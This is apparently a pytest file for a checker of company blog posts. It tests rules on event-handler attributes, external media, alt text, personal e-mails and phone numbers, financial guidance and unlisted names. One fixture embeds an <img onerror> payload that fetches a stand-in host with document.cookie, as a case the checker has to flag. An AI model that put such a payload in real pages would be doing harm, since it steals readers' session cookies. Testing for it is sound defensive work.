"""Precision on real writing (issue 15, item 2), both ways.

The rules were made quieter where real archives showed them wrong (team mailboxes, links to
pages by address, "guidance" beside a section number, capitalised words that are no names).
This file holds the other side: a set of true problems that must still be reported, with
their rule, line and message word for word, each in a tiny site of its own. And beside each
true problem, the look-alike from real writing that must not be an error.
"""

from __future__ import annotations

import textwrap

import pytest

from advocacy.core.checking.run import check_repository
from conftest import FixtureSite, site_settings

BODY = 8  # the first body line of a post written by `_post`
POLICY = """\
company: Kystlinje A/S
role_mailboxes: [jobs@kystlinje.dk]
approved_organisations:
  - {name: Arne Jacobsen Design}
financial: {next_release: 2027-03-04}
"""
Found = tuple[str, str, int | None, str]


def _post(site: FixtureSite, body: str, extra: str = "", name: str = "p.md") -> None:
    site.write("policy.yml", POLICY)
    site.simple_post(name, "A day at work", "2026-11-20", extra=extra, body=textwrap.dedent(body))


def _findings(site: FixtureSite, *rules: str) -> list[Found]:
    _, report = check_repository(site_settings(site.root), lang="en")
    return [
        (f.rule, str(f.severity), f.line, f.message)
        for f in report.sorted()
        if not rules or f.rule in rules
    ]


def _errors(site: FixtureSite) -> list[Found]:
    return [f for f in _findings(site) if f[1] == "error"]


# -- true problems: still reported -----------------------------------------------------------


def test_an_event_handler_tracker_is_an_error(site: FixtureSite) -> None:
    _post(
        site,
        """\
        We met the team for lunch.

        <img src="media/none.png" alt="" onerror="fetch('https://t.example/?'+document.cookie)">
        """,
    )
    assert (
        "html-event-handler",
        "error",
        BODY + 2,
        "The attribute 'onerror' on <img> would run code in the reader's browser.",
    ) in _findings(site)


def test_a_picture_from_another_host_is_an_error(site: FixtureSite) -> None:
    _post(
        site,
        """\
        Our new office.

        ![The office](https://images.example.net/office.jpg)
        """,
    )
    assert _findings(site, "media-external") == [
        (
            "media-external",
            "error",
            BODY + 2,
            "The picture or video 'https://images.example.net/office.jpg' would be loaded from "
            "another website, which tells that website who reads our page.",
        )
    ]


def test_missing_alt_text_is_an_error(site: FixtureSite) -> None:
    site.image("media/2026/office.jpg")
    _post(
        site,
        """\
        Our new office.

        ![](../../../media/2026/office.jpg)
        """,
        extra="image: media/2026/office.jpg\n",
    )
    assert _findings(site, "image-alt-missing") == [
        ("image-alt-missing", "error", 6, "'image' is set but 'image_alt' is missing."),
        (
            "image-alt-missing",
            "error",
            BODY + 3,  # the image: line moves the body down
            "The image '../../../media/2026/office.jpg' has no alt text.",
        ),
    ]


@pytest.mark.parametrize(
    "address",
    [
        "mette.hansen@kystlinje.dk",
        "mette1987@gmail.com",
        "support.anna@kystlinje.dk",
        "mh@kystlinje.dk",
    ],
)
def test_a_personal_email_address_is_an_error(site: FixtureSite, address: str) -> None:
    _post(site, f"Write to me at {address} if you want to know more.\n")
    assert _findings(site, "personal-email", "mailbox-unlisted") == [
        ("personal-email", "error", BODY, f"An e-mail address must not be published: '{address}'.")
    ]


@pytest.mark.parametrize(
    "number",
    ["+45 12 34 56 78", "0045 12345678", "12 34 56 78", "+1 202-555-0142", "+44 20 7946 0958"],
)
def test_a_phone_number_is_an_error(site: FixtureSite, number: str) -> None:
    _post(site, f"Call me on {number} after lunch.\n")
    assert _findings(site, "personal-phone") == [
        ("personal-phone", "error", BODY, f"A phone number must not be published: '{number}'.")
    ]


def test_an_empty_post_is_an_error(site: FixtureSite) -> None:
    _post(site, "<!-- What did you do today? -->\n")
    assert _findings(site, "post-empty") == [
        (
            "post-empty",
            "error",
            BODY,
            "The post has no story yet: there is no text below the front matter.",
        )
    ]


def test_a_full_name_nobody_listed_is_a_warning(site: FixtureSite) -> None:
    _post(
        site,
        """\
        We had a visit.

        Lise Holm-Jensen from our customer showed us the warehouse.
        """,
    )
    assert _findings(site, "person-unlisted") == [
        (
            "person-unlisted",
            "warning",
            BODY + 2,
            "Lise Holm-Jensen is named on line 10, but is neither an author of the post nor "
            "listed under 'people:'; HR must know that Lise Holm-Jensen agreed to be named, or "
            "the name must go.",
        )
    ]


# -- look-alikes from real writing: not errors -------------------------------------------------


def test_a_team_mailbox_is_a_warning_and_a_listed_one_nothing(site: FixtureSite) -> None:
    _post(
        site,
        """\
        Questions go to inquiries18f@kystlinje.dk or presse@kystlinje.dk.

        Apply at jobs@kystlinje.dk, or write to kystlinje@kystlinje.dk.
        """,
    )
    message = (
        "'{}' looks like a team mailbox, not a person's address, but the policy does not list it."
    )
    assert _findings(site, "personal-email", "mailbox-unlisted") == [
        ("mailbox-unlisted", "warning", BODY, message.format("inquiries18f@kystlinje.dk")),
        ("mailbox-unlisted", "warning", BODY, message.format("presse@kystlinje.dk")),
        # named after the company (policy.yml's company: Kystlinje A/S)
        ("mailbox-unlisted", "warning", BODY + 2, message.format("kystlinje@kystlinje.dk")),
    ]


def test_a_link_to_a_page_by_its_address_says_it_is_a_link(site: FixtureSite) -> None:
    _post(
        site,
        """\
        Read [about us](/about/) and [the consulting team](../consulting/).
        """,
    )
    message = (
        "The link '{}' is an address on the web server, not a page or file in the "
        "repository, so nobody can tell whether it leads anywhere."
    )
    assert _findings(site, "link-broken", "media-outside", "media-missing") == [
        ("link-broken", "error", BODY, message.format("/about/")),
        ("link-broken", "error", BODY, message.format("../consulting/")),
    ]


def test_guidance_beside_a_section_number_is_no_financial_figure(site: FixtureSite) -> None:
    _post(
        site,
        """\
        FAR Part 39.103 and its supplemental guidance do not prescribe one way to do it.

        Our guidance for next year is 2 mia. kr.
        """,
    )
    assert _findings(site, "financial-figures") == [
        (
            "financial-figures",
            "error",
            BODY + 2,
            "'guidance' with a figure may not be published before 2027-03-04, when the company "
            "publishes its results.",
        )
    ]


def test_capitalised_words_and_known_people_are_no_unlisted_names(site: FixtureSite) -> None:
    site.author("jonas-berg", "Jonas Berg")
    _post(
        site,
        """\
        Our Product Owner moved from New York to Google Cloud last year.

        Mette Hansen and Jonas Berg met Lise Holm at the Niels Bohr Institute and at Arne
        Jacobsen Design, with Queen Margrethe watching.

        How Mark Built The Platform For Everyone
        """,
        extra='people:\n  - name: "Lise Holm, Novo"\n    consent: 2026-11-01\n'
        "    evidence: HR-7\n  - author: jonas-berg\n",
    )
    assert _findings(site, "person-unlisted") == []


# -- done earlier for issue 15, held here so they stay done -----------------------------------


def test_harmless_attributes_are_tidied_not_blocking(site: FixtureSite) -> None:
    _post(
        site,
        """\
        See <a href="https://example.com/" target="_blank" rel="noopener" title="Ours">this</a>.
        """,
    )
    assert _errors(site) == []
    assert {f[0] for f in _findings(site)} >= {"html-tidied"}


def test_captions_on_youtube_can_be_declared_a_file_still_needs_its_own(site: FixtureSite) -> None:
    _post(
        site, "We filmed it.\n", extra="video:\n  youtube: dQw4w9WgXcQ\n  captions_on_host: true\n"
    )
    assert _findings(site, "video-captions-missing") == []
    site.write("media/talk.mp4", "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2")
    _post(
        site, "We filmed it.\n", extra="video:\n  src: media/talk.mp4\n  captions_on_host: true\n"
    )
    assert _findings(site, "video-captions-missing") == [
        ("video-captions-missing", "error", 6, "The video has no captions.")
    ]


def test_only_the_cover_needs_the_card_size(site: FixtureSite) -> None:
    site.image("media/2026/small.jpg", size=(400, 300))
    _post(site, "A picture.\n\n![Our desk](../../../media/2026/small.jpg)\n")
    assert _findings(site, "image-too-small") == []
    _post(site, "A picture.\n", extra="image: media/2026/small.jpg\nimage_alt: Our desk\n")
    assert _findings(site, "image-too-small") == [
        (
            "image-too-small",
            "error",
            6,
            "'media/2026/small.jpg' is only 400 pixels wide; it needs at least 600 here.",
        )
    ]


def test_a_missing_description_is_a_warning(site: FixtureSite) -> None:
    site.post(
        "p.md",
        'title: "A day at work"\ndate: 2026-11-20\nauthors: [mette-hansen]\n',
        "We spent the day in the harbour, counting containers and drinking coffee.\n",
    )
    site.write("policy.yml", POLICY)
    assert _errors(site) == []
    assert _findings(site, "description-length") == [
        (
            "description-length",
            "warning",
            2,
            "The post has no 'description'; its first paragraph is used for the link preview.",
        )
    ]
